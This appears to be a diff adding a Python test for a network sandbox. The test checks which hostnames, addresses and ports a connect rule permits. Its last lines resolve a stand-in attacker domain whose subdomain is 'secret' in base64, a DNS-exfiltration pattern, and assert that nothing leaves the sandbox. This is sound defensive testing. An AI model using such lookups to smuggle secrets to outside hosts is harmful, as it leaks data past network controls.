@@ -111,6 +111,28 @@ def test_a_network_is_granted_without_names(net: Internet) -> None:
     }
 
 
+def test_every_name_is_granted(net: Internet) -> None:
+    """As `research` grants it: whatever has a name and is of the internet; no address by itself, and nothing behind a name
+    that is not of the internet."""
+    tries = {
+        "name": f"talk({GRANTED!r}, 8080)",
+        "another": f"talk({OTHER!r}, 8080)",
+        "loopback": "talk('rebound.example.com', 8080)",
+        "private": "talk('private.example.com', 8080)",
+        "address": "talk('203.0.113.20', 8080)",
+        "port": f"talk({GRANTED!r}, 80)",
+    }
+    assert set(net.world.outsides(tries, before=HELPERS).values()) == {"ok"}
+    net.forget()
+    granted = dict.fromkeys(tries, "ECONNRESET") | {"name": "ok", "another": "ok"}
+    assert net.world.probes(tries, "--connect", "*:8080", before=HELPERS) == granted
+    net.forget()
+    # A name that is only looked up leaves nothing outside, whatever it says.
+    look = "socket.getaddrinfo('c2VjcmV0.attacker.example.org', 8080)"
+    assert net.world.probe(look, "--connect", "*:8080") == "ok"
+    assert net.seen() == []
+
+
 def test_udp_is_granted_by_name_and_by_address(net: Internet) -> None:
     options = ("--connect", f"{GRANTED}:4433/udp", "--connect", "203.0.113.20:9999/udp")
     result = net.world.python(HELPERS + f"print(udp({GRANTED!r}, 4433)); print(udp('203.0.113.20', 9999))", *options)
